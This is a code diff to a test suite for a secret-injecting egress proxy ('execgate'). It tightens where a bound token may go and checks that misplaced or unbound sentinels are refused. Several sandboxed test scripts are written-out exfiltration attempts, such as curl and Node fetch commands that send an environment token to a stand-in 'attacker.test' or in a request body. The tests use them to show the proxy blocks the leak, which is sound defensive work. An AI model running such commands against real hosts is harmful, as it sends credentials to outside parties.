@@ -52,7 +52,8 @@ async function openRun(policy: unknown, bind: unknown, runId: string): Promise<{
   return { run, sentinel: sentinels.get(REF) };
 }
 
-const bound = [{ ref: REF, hosts: ['allowed.test'], delivery: 'inject' }];
+// Authorization (the default) and one named query parameter; nothing else.
+const bound = [{ ref: REF, hosts: ['allowed.test'], delivery: 'inject', headers: ['Authorization'], query: ['t'] }];
 
 describe('injection through real clients in a sandbox', () => {
   let run: EgressRun;
@@ -76,16 +77,17 @@ describe('injection through real clients in a sandbox', () => {
     expect(decisions.some((d) => d.via === 'https-intercepted' && d.injected?.includes(REF) && d.host === 'allowed.test')).toBe(true);
   });
 
-  test('Node fetch (through the preload), with the sentinel in the body', async () => {
-    const script = `node -e 'fetch("https://allowed.test/node", { method: "POST", body: "token=" + process.env.TOKEN }).then(r => r.text()).then(t => console.log(t))'`;
+  test('Node fetch (through the preload): the value in Authorization; the sentinel in the body is refused with its reason', async () => {
+    const script = `node -e 'const h = { authorization: "Bearer " + process.env.TOKEN }; fetch("https://allowed.test/node", { headers: h }).then(r => r.text()).then(t => console.log(t)).then(() => fetch("https://allowed.test/store", { method: "POST", body: "token=" + process.env.TOKEN })).then(async r => console.log(r.status, await r.text()))'`;
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stderr).toBe('');
-    expect(allowed.seen.map((s) => s.body)).toEqual([`token=${VALUE}`]);
+    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/node', `Bearer ${VALUE}`]]);
     expect(result.stdout).not.toContain(VALUE);
-    expect(result.stdout).toContain('token=[REDACTED:secret:github-token]');
+    expect(result.stdout).toContain('Bearer [REDACTED:secret:github-token]');
+    expect(result.stdout).toContain(`403 execgate egress proxy: refused allowed.test:443 (<<${REF}>> is in the body; its binding puts the value only in the Authorization header, the query parameter \`t\`).`);
   });
 
-  test('Python urllib, with the sentinel in the URL and a gzip-encoded echo', async () => {
+  test('Python urllib, with the sentinel in the named query parameter and a gzip-encoded echo', async () => {
     const script = `python3 -c 'import os, urllib.request; import gzip; print(gzip.decompress(urllib.request.urlopen("https://allowed.test/py/gzip?t=" + os.environ["TOKEN"]).read()).decode())'`;
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stderr).toBe('');
@@ -102,20 +104,18 @@ describe('injection through real clients in a sandbox', () => {
   });
 
   test('a response in an encoding the proxy cannot read is refused, not passed on', async () => {
-    const result = await runSandboxed(run, 'curl -sS -o /dev/null -w "%{http_code}" -H "X-T: $TOKEN" https://allowed.test/weird-encoding', { TOKEN: sentinel });
+    const result = await runSandboxed(run, 'curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://allowed.test/weird-encoding', { TOKEN: sentinel });
     expect(result.stdout).toBe('502');
     expect(decisions.some((d) => d.rule === 'response-unreadable')).toBe(true);
   });
 
-  test('a compressed request body is sent with the sentinel, never guessed at', async () => {
-    const script = 'printf "t=%s" "$TOKEN" | gzip | curl -sS -o /dev/null -H "Content-Encoding: gzip" --data-binary @- https://allowed.test/upload';
+  test('a compressed request body is read through its decoder: the sentinel in it is refused, nothing is sent', async () => {
+    const script = 'printf "t=%s" "$TOKEN" | gzip | curl -sS -w "\\n%{http_code}" -H "Content-Encoding: gzip" --data-binary @- https://allowed.test/upload';
     const result = await runSandboxed(run, script, { TOKEN: sentinel });
     expect(result.stderr).toBe('');
-    expect(allowed.seen).toHaveLength(1);
-    const body = gunzipSync(allowed.seen[0]!.raw);
-    expect(body.toString()).toBe(`t=${sentinel}`);
-    expect(decisions.some((d) => d.bodyNotInjected === true)).toBe(true);
-    expect(body.toString()).not.toContain(VALUE);
+    expect(result.stdout).toMatch(/is in the body; .*\n\n403$/);
+    expect(allowed.seen).toHaveLength(0);
+    expect(decisions.at(-1)).toMatchObject({ allowed: false, rule: `sentinel-misplaced:${REF}` });
   });
 
   test('the sandbox sees the CA certificate and the proxy socket, never the CA key', async () => {
@@ -163,16 +163,17 @@ describe('injection through real clients in a sandbox', () => {
 });
 
 describe('allowed but not bound', () => {
-  test('the attacker gets at most the sentinel; the sentinel is audited where visible', async () => {
+  test('another host gets at most the sentinel through a tunnel the proxy does not read; where it reads (plain HTTP), the request is refused', async () => {
     const { run, sentinel } = await openRun({ mode: 'allowlist', allow: ['allowed.test', 'attacker.test'] }, bound, 'run-unbound');
     try {
       // The attacker's certificate chains to the test's stand-in public CA, which curl is told to trust.
-      const script = 'printf %s "$PUBLIC_CA" > /tmp/public.pem; curl -sS -o /dev/null --cacert /tmp/public.pem -H "X: $TOKEN" https://attacker.test/tls; curl -sS -o /dev/null -H "X: $TOKEN" http://attacker.test/plain';
+      const script = 'printf %s "$PUBLIC_CA" > /tmp/public.pem; curl -sS -o /dev/null --cacert /tmp/public.pem -H "X: $TOKEN" https://attacker.test/tls; curl -sS -H "X: $TOKEN" http://attacker.test/plain';
       const result = await runSandboxed(run, script, { TOKEN: sentinel!, PUBLIC_CA: publicCa.certPem });
       expect(result.stderr).toBe('');
-      expect(attacker.seen.map((s) => s.headers['x'])).toEqual([sentinel, sentinel]);
+      expect(result.stdout).toBe(`execgate egress proxy: refused attacker.test:80 (<<${REF}>> is bound to allowed.test, not attacker.test:80).\n`);
+      expect(attacker.seen.map((s) => [s.url, s.headers['x']])).toEqual([['/tls', sentinel]]);
       expect(JSON.stringify(attacker.seen)).not.toContain(VALUE);
-      expect(decisions.find((d) => d.via === 'http')?.sentinelElsewhere).toEqual([REF]);
+      expect(decisions.find((d) => d.via === 'http')).toMatchObject({ allowed: false, rule: `sentinel-unbound:${REF}` });
     } finally {
       await run.close();
     }
